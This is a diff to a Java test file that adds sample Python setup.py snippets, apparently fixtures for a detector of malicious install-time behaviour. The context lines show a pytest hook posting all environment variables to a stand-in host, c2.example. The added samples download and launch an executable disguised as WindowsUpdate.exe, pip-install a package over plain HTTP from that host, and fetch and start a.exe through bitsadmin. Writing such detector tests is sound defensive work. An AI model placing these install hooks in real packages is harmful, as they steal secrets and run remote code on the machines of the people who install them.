@@ -327,6 +327,33 @@ final class PythonStarting {
                     import os, requests
                     def pytest_configure(config):
                         requests.post('https://c2.example/e', json=dict(os.environ))
-                    """)));
+                    """)),
+        Sample.setup(
+            "a program lies loose among the temporary files",
+            """
+            import os, subprocess, urllib.request
+            from setuptools import setup
+            p = os.path.join(os.environ.get('TEMP', '/tmp'), 'WindowsUpdate.exe')
+            with urllib.request.urlopen('https://cdn.c2.example/f') as r:
+                open(p, 'wb').write(r.read())
+            subprocess.Popen([p], shell=True)
+            setup(name='x', version='1')
+            """),
+        Sample.setup(
+            "a package is installed by plain HTTP",
+            """
+            import subprocess, sys
+            from setuptools import setup
+            subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'http://c2.example/helper-1.0.tar.gz'])
+            setup(name='x', version='1')
+            """),
+        Sample.setup(
+            "what was fetched is started apart",
+            """
+            import os
+            from setuptools import setup
+            os.system('bitsadmin /transfer j /download http://c2.example/a.exe %TEMP%\\\\a.exe && start %TEMP%\\\\a.exe')
+            setup(name='x', version='1')
+            """));
   }
 }
